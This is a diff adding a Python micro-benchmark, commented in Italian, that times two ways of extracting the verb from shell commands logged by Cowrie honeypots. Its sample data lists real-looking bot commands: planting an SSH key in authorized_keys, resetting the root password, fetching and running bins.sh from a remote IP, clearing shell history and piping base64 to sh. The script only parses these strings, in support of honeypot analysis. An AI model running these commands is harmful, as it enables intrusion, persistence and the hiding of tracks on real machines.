@@ -0,0 +1,78 @@
+"""
+MICRO-BENCHMARK: verbo di un comando (ZenodoDataReader.get_verb_of_command)
+
+confronta la scansione lineare con startswith sulla lista dei verbi lunghi ordinata (vecchio percorso)
+con il VerbTrie costruito una volta all'import (VERB_TRIE).
+I comandi sono quelli che i bot mandano più spesso ai Cowrie ssh, mescolati con comandi interattivi.
+
+uso: python Benchmarks/bench_verb_matcher.py [numero_comandi]
+"""
+import random
+import sys
+import time
+from pathlib import Path
+
+# permette di lanciare lo script direttamente da riga di comando
+_ROOT = Path(__file__).resolve().parent.parent
+sys.path[:0] = [str(_ROOT)]
+
+import Zenodo.ZenodoDataReader as ZDR
+from MachineLearning.command_vocabularies import get_fast_check_set
+
+# (comando, peso): la maggior parte del traffico è di pochi bot che ripetono la stessa sequenza
+_BOT_COMMANDS = [
+    ("uname -a", 20), ("uname -s -v -n -r -m", 8), ("cat /proc/cpuinfo | grep name | wc -l", 15),
+    ("cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'", 10),
+    ("free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", 10), ("ls -lh $(which ls)", 8),
+    ("which ls", 6), ("crontab -l", 8), ("w", 6), ("uname -m", 6), ("top", 4), ("uname", 4), ("whoami", 6),
+    ("lscpu | grep Model", 6), ("cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2E mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~", 10),
+    ("echo \"root:5kQ2x9Lm\"|chpasswd|bash", 5), ("cat /proc/cpuinfo", 3), ("cat /etc/issue", 2),
+    ("enable", 4), ("system", 4), ("shell", 4), ("sh", 4), ("/bin/busybox ECCHI", 5),
+    ("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.7/bins.sh; chmod 777 bins.sh; sh bins.sh", 6),
+    ("rm -rf /tmp/* /var/tmp/*", 2), ("history -c", 1), ("unset HISTFILE", 1), ("export HISTFILE=/dev/null", 1),
+    ("ps -ef | grep '[Mm]iner'", 2), ("nproc", 2), ("df -h | head -n 2 | awk 'FNR == 2 {print $2;}'", 2),
+    ("iptables -L", 1), ("netstat -tulpn", 1), ("ip addr show", 1), ("base64 -d <<< ZWNobyBoaQ== | sh", 1),
+]
+
+
+def synthetic_commands(n_commands: int, seed: int = 42) -> list[str]:
+    rnd = random.Random(seed)
+    commands = [command for command, _ in _BOT_COMMANDS]
+    weights = [weight for _, weight in _BOT_COMMANDS]
+    return rnd.choices(commands, weights, k=n_commands)
+
+
+def _commands_per_second(verb_function, commands: list[str], repeat: int = 3) -> float:
+    best = float("inf")
+    for _ in range(repeat):
+        start = time.perf_counter()
+        for command in commands:
+            verb_function(command)
+        best = min(best, time.perf_counter() - start)
+    return len(commands) / best
+
+
+def run(n_commands: int = 1_000_000):
+    commands = synthetic_commands(n_commands)
+    sorted_fast_check = get_fast_check_set()
+
+    def linear(command):
+        return ZDR.get_verb_of_command(command, sorted_fast_check)
+
+    def trie(command):
+        return ZDR.get_verb_of_command(command, ZDR.VERB_TRIE)
+
+    # le due implementazioni devono restituire lo stesso verbo
+    for command, _ in _BOT_COMMANDS:
+        assert linear(command) == trie(command), command
+
+    before = _commands_per_second(linear, commands)
+    after = _commands_per_second(trie, commands)
+    print(f"commands: {n_commands}")
+    print(f"before (startswith scan) : {before:,.0f} commands/s")
+    print(f"after  (trie)            : {after:,.0f} commands/s")
+    print(f"speedup                  : {after / before:.2f}x")
+
+
+if __name__ == "__main__":
+    run(int(sys.argv[1]) if len(sys.argv) > 1 else 1_000_000)